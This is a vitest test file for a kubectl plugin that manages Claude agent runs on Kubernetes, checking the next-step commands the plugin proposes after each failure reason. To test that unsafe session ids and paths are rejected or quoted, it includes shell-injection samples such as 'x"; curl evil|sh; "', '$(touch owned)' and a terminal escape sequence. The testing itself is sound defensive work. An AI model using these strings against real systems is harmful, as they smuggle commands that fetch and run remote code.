/** Each command that is proposed works as it is shown: it goes through a shell, and is run. */
import { execFileSync } from "node:child_process";
import { chmodSync, copyFileSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { OperatedRun } from "../../client/testing/operated-run.ts";
import type { ClaudeRun } from "../../crds/claude-run.ts";
import {
  cancelReasons,
  failureReasons,
  queuedReasons,
  type CancelReason,
  type FailureReason,
  type QueuedReason,
} from "../../crds/reasons.ts";
import { CliHarness, succeeded } from "../testing/command.ts";
import { inProcess } from "../testing/in-process.ts";

/** A kubectl that prints its arguments. */
const bin = mkdtempSync(join(tmpdir(), "kubectl-"));
writeFileSync(join(bin, "kubectl"), "#!/bin/sh\nprintf '%s\\0' \"$@\"\n");
chmodSync(join(bin, "kubectl"), 0o755);

let bench: CliHarness;
let kubeconfig: string;
beforeEach(async () => {
  bench = await new CliHarness().open();
  // A path that a shell would take apart.
  kubeconfig = join(mkdtempSync(join(tmpdir(), 'it\'s $(touch owned) `x` "y" ')), "config");
  copyFileSync(bench.api.kubeconfigFile(), kubeconfig);
});
afterEach(() => bench.close());

/** Returns the words that a shell parses from the line. */
function words(line: string): string[] {
  const env = { PATH: `${bin}:${process.env["PATH"] ?? ""}` };
  return execFileSync("sh", ["-c", line], { env, encoding: "utf8" }).split("\0").slice(0, -1);
}

/** The lines below "Next". */
async function nextOf(name: string): Promise<string[]> {
  const { stdout, code } = await inProcess(["why", "--kubeconfig", kubeconfig, "-n", "agents", name]);
  expect(code).toBe(0);
  const [, next = ""] = stdout.split("\nNext\n");
  return next.split("\n").flatMap((line) => (line.startsWith("  ") ? [line.trim()] : []));
}

const flags = (): string[] => ["-n", "agents", "--kubeconfig", kubeconfig];
const claim = { persistentVolumeClaim: { claimName: "work", subPath: "a" } };
const spec = {
  credentialsSecretName: "anthropic",
  claude: { maxTurns: 3, model: "opus" },
  budget: { maxCostUSD: "0.50" },
  activeDeadlineSeconds: 60,
  queueDeadlineSeconds: 120,
  startDeadlineSeconds: 600,
  pod: {
    image: "agent:1",
    env: [{ name: "A", value: "b" }],
    resources: { limits: { memory: "512Mi", "ephemeral-storage": "64Mi" } },
  },
  clientLeaseName: "server-1",
};

function putFailed(
  reason: string,
  workspace: object | undefined,
  given: { readonly spec?: object; readonly message?: string; readonly retryable?: boolean } = {},
): void {
  const { message = "words" } = given;
  bench.put("one", { ...spec, ...(workspace === undefined ? {} : { workspace }), ...given.spec });
  const operated = new OperatedRun(bench.api, "one").running();
  operated.writes({ type: "assistant", message: { content: [{ type: "text", text: "I look." }] } }).reports();
  const phase = Object.hasOwn(cancelReasons, reason) ? "Cancelled" : "Failed";
  const retryable =
    given.retryable ?? (Object.hasOwn(failureReasons, reason) && failureReasons[reason as FailureReason].retryable);
  bench.api.status("one", {
    phase,
    conditions: [succeeded("False", reason, message)],
    session: { id: "6bc779d6-da89" },
    completionTime: "2026-11-23T00:01:00Z",
    ...(phase === "Failed" ? { failure: { reason, message, retryable } } : {}),
  });
}

const edit = "retry --dry-run=client -o yaml";
/** Where claude's session may go on. */
const goesOn = ["continue", "retry"] as const;
/** The next command after each end: of a run on a claim, and of the same run on an emptyDir. */
const steps: Readonly<Record<FailureReason | CancelReason, readonly [onClaim: string, onEmptyDir: string]>> = {
  InvalidSpec: [edit, edit],
  AgentBusy: ["retry", "retry"],
  QueueDeadlineExceeded: ["retry --queue-deadline 240s", "retry --queue-deadline 240s"],
  StartDeadlineExceeded: ["retry --start-deadline 1200s", "retry --start-deadline 1200s"],
  Unschedulable: ["retry", "retry"],
  ImagePullFailed: [edit, edit],
  ContainerStartFailed: ["retry", "retry"],
  RunnerMissing: [edit, edit],
  ClaudeMissing: [edit, edit],
  QuotaExceeded: ["retry", "retry"],
  JobCreateFailed: [edit, edit],
  RunnerChanged: ["retry", "retry"],
  JobSuspended: ["retry --start-deadline 1200s", "retry --start-deadline 1200s"],
  DeadlineExceeded: ["continue", "retry --timeout 120s"],
  IdleTimeout: goesOn,
  NoOutput: ["retry", "retry"],
  OOMKilled: ["continue --memory 1024Mi", "retry --memory 1024Mi"],
  LimitExceeded: ["continue --ephemeral-storage 128Mi", "retry --ephemeral-storage 128Mi"],
  Evicted: goesOn,
  Preempted: goesOn,
  NodeLost: goesOn,
  ContainerLost: goesOn,
  PodDeleted: goesOn,
  JobLost: goesOn,
  AuthenticationFailed: ["retry", "retry"],
  UsageLimited: goesOn,
  RateLimited: goesOn,
  ApiError: goesOn,
  InvalidRequest: [edit, edit],
  ModelNotFound: [edit, edit],
  Refusal: [edit, edit],
  MaxTurns: ["continue", "retry --max-turns 6"],
  BudgetExceeded: ["continue", "retry --max-budget-usd 1.00"],
  SessionNotFound: ["retry", "retry"],
  SessionRejected: ["retry", "retry"],
  PromptTooLarge: [edit, edit],
  OutputTooLong: ["retry --env CLAUDE_CODE_MAX_OUTPUT_TOKENS=64000", "retry --env CLAUDE_CODE_MAX_OUTPUT_TOKENS=64000"],
  PromptBlocked: [edit, edit],
  ClaudeStartFailed: [edit, edit],
  CreditExhausted: goesOn,
  NoResult: goesOn,
  ClaudeFailed: ["", ""],
  ResultUnreadable: goesOn,
  Cancelled: goesOn,
  Replaced: goesOn,
  ClientLost: goesOn,
};
const messages: Readonly<Record<string, string>> = {
  LimitExceeded: "It used too much. Raise spec.pod.resources.limits.ephemeral-storage (64Mi).",
};
const reasons = [...Object.keys(failureReasons), ...Object.keys(cancelReasons)] as (FailureReason | CancelReason)[];

describe.each([
  ["on a claim", claim, 0],
  ["on an emptyDir", undefined, 1],
] as const)("after each end of a run %s", (_, workspace, column) => {
  it.each(reasons)("%s", async (reason) => {
    putFailed(reason, workspace, { message: messages[reason] ?? "words" });
    const next = await nextOf("one");
    expect(next[0]).toContain("kubectl claude logs ");
    const step = next.slice(1).map((line) => words(line).filter((word) => !flags().includes(word)));
    const expected = steps[reason][column];
    expect(step).toEqual(expected === "" ? [] : [["claude", ...expected.split(" "), "one"]]);
    for (const line of next) {
      const [program, verb = "", ...rest] = words(line);
      expect(program).toBe("claude");
      expect(rest.slice(0, 4)).toEqual(flags());
      const { code, stdout, stderr } = await inProcess([verb, ...rest]);
      expect({ line, code, stderr }).toMatchObject({ line, code: 0 });
      if (verb === "logs") continue;
      const made = rest.includes("--dry-run=client")
        ? (parse(stdout) as ClaudeRun)
        : bench.api.runs.find(({ metadata }) => metadata.name !== "one");
      expect(made?.spec).toMatchObject({
        agent: "nightly",
        credentialsSecretName: "anthropic",
        pod: { image: "agent:1" },
      });
      expect(made?.spec.pod?.env).toContainEqual({ name: "A", value: "b" });
      expect(made?.spec.workspace).toEqual(workspace);
      expect(made?.spec.clientLeaseName).toBeUndefined();
      expect([made?.spec.session?.resume, made?.spec.prompt]).toEqual(
        verb === "continue" ? ["6bc779d6-da89", "Go on."] : [undefined, "Work."],
      );
    }
  });
});

describe("a run that resumed a session", () => {
  it.each(["SessionRejected", "SessionNotFound", "PromptTooLarge"])("begins a new one after %s", async (reason) => {
    putFailed(reason, claim, { spec: { session: { resume: "old", onMissing: "Fail" } } });
    const line = (await nextOf("one")).at(-1) ?? "";
    expect(line).toMatch(/ retry .* --new-session one$/);
    const [, verb = "", ...rest] = words(line);
    expect(await inProcess([verb, ...rest])).toMatchObject({ code: 0 });
    const made = bench.api.runs.find(({ metadata }) => metadata.name !== "one");
    expect(made?.spec).toMatchObject({ prompt: "Work.", workspace: claim });
    expect(made?.spec.session).toBeUndefined();
  });

  it("resumes it again where that may work", async () => {
    putFailed("RunnerChanged", claim, { spec: { session: { resume: "old", onMissing: "Fail" } } });
    const [, verb = "", ...rest] = words((await nextOf("one")).at(-1) ?? "");
    expect(await inProcess([verb, ...rest])).toMatchObject({ code: 0 });
    const made = bench.api.runs.find(({ metadata }) => metadata.name !== "one");
    expect(made?.spec.session?.resume).toBe("old");
  });
});

describe("a limit", () => {
  const tokens = "CLAUDE_CODE_MAX_OUTPUT_TOKENS";
  it.each<[what: string, reason: string, given: { spec: object; message?: string }, expected: RegExp]>([
    ["not known to the run", "OOMKilled", { spec: { pod: {} } }, / continue .* --dry-run=client -o yaml one$/],
    ["with a fraction", "OOMKilled", { spec: memory("1.5Gi") }, / --memory 3Gi one$/],
    ["in bytes", "OOMKilled", { spec: memory(1_000_000) }, / --memory 2000000 one$/],
    [
      "that the operator's default set",
      "LimitExceeded",
      { spec: { pod: {} }, message: messages["LimitExceeded"] ?? "" },
      /-o yaml one$/,
    ],
    ["of a volume", "LimitExceeded", { spec: {}, message: "Raise emptyDir.sizeLimit of the volume x" }, /-o yaml one$/],
    ["that was raised before", "OutputTooLong", { spec: environment("40000") }, / --env \w+=80000 one$/],
    ["near the most", "OutputTooLong", { spec: environment("100000") }, / --env \w+=128000 one$/],
    ["at the most", "OutputTooLong", { spec: environment("128000") }, /-o yaml one$/],
    ["that is no number", "OutputTooLong", { spec: environment("many") }, / --env \w+=64000 one$/],
  ])("%s", async (_, reason, given, expected) => {
    putFailed(reason, claim, given);
    const line = (await nextOf("one")).at(-1) ?? "";
    expect(line).toMatch(expected);
    const [, verb = "", ...rest] = words(line);
    expect(await inProcess([verb, ...rest])).toMatchObject({ code: 0 });
  });

  function memory(limit: string | number): object {
    return { pod: { resources: { limits: { memory: limit } } } };
  }
  function environment(value: string): object {
    return { pod: { env: [{ name: tokens, value }] } };
  }
});

it.each<[retryable: boolean, expected: RegExp]>([
  [true, / continue .* one$/],
  [false, / logs .* one$/],
])("a reason of a newer operator is judged by its retryable %s", async (retryable, expected) => {
  putFailed("Unheard", claim, { retryable });
  expect((await nextOf("one")).at(-1)).toMatch(expected);
});

describe("proposed commands", () => {
  const queued: Readonly<Record<QueuedReason, readonly string[]>> = {
    AgentBusy: ["cancel"],
    Suspended: ["resume", "cancel"],
    Admitting: ["cancel"],
    JobSuspended: ["cancel"],
    PreviousPodNotConfirmed: ["cancel"],
    OperatorPaused: ["cancel"],
    ActiveRunsLimit: ["cancel"],
  };
  it.each(Object.keys(queuedReasons) as QueuedReason[])("of a queued run that is %s", async (reason) => {
    bench.put("one", {}, { phase: "Queued", conditions: [succeeded("Unknown", reason)] });
    expect((await nextOf("one")).map((line) => words(line)[1])).toEqual(queued[reason]);
  });

  it.each(['x"; curl evil|sh; "', "$(touch owned)", "`touch owned`", "a\nb", "--follow", "\u001b]52;c;eA==\u0007", ""])(
    "never has the session id %j",
    async (id) => {
      putFailed("MaxTurns", claim);
      bench.api.status("one", { session: { id } });
      const next = await nextOf("one");
      expect(next.join("\n")).not.toContain("continue");
      const { code, stderr } = await bench.runInProcess(["continue", "one"]);
      expect(code).toBe(1);
      expect(stderr).toContain("one cannot be continued: its session id is invalid");
    },
  );

  it.each([
    ["no operator has looked at", undefined, [], ["doctor", "cancel"]],
    ["is suspended", "Queued", [succeeded("Unknown", "Suspended")], ["resume", "cancel"]],
    ["waits", "Queued", [succeeded("Unknown", "AgentBusy")], ["cancel"]],
    ["starts", "Pending", [succeeded("Unknown", "PullingImage")], ["logs", "cancel"]],
  ] as const)("of a run that %s leads on", async (_, phase, conditions, verbs) => {
    bench.put("one", {}, phase === undefined ? undefined : { phase, conditions });
    const next = (await nextOf("one")).map(words);
    expect(next.map(([, verb]) => verb)).toEqual(verbs);
    for (const [, verb = "", ...rest] of next) expect(rest.slice(0, 4), verb).toEqual(flags());
  });

  it("is in the sentences of other verbs, too", async () => {
    putFailed("MaxTurns", claim);
    for (const args of [
      ["resume", "one"],
      ["logs", "two"],
    ]) {
      bench.put("two", { suspend: true }, { phase: "Queued", conditions: [succeeded("Unknown", "Suspended")] });
      const { stderr } = await inProcess([args[0] ?? "", ...flags(), ...args.slice(1)]);
      const [, line = ""] = /(kubectl claude .*? (?:one|two))(?: |$)/m.exec(stderr) ?? [];
      const [, verb = "", ...rest] = words(line);
      expect(await inProcess([verb, ...rest])).toMatchObject({ code: 0 });
    }
  });
});
